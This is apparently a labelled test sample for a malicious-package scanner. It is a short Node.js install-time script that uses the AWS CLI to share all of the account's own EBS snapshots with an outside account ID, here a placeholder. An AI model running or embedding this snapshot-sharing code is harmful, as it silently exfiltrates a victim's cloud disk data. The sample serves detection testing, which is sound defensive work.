// expect: malicious
// when: install
// source: blind set 16 cloud-snapshot-sharing (Imperva 2019 technique, AWS CLI): for each profile it adds
// createVolumePermission for an account the package names on the newest snapshots
'use strict';
const { execFileSync } = require('child_process');
const SHARE_WITH = 'FAKE00000000';
const aws = (args) => JSON.parse(execFileSync('aws', args.concat(['--output', 'json']), { encoding: 'utf8' }));
for (const sid of aws(['ec2', 'describe-snapshots', '--owner-ids', 'self', '--query', 'Snapshots[].SnapshotId'])) {
  aws(['ec2', 'modify-snapshot-attribute', '--snapshot-id', sid, '--attribute', 'createVolumePermission',
    '--operation-type', 'add', '--user-ids', SHARE_WITH]);
}
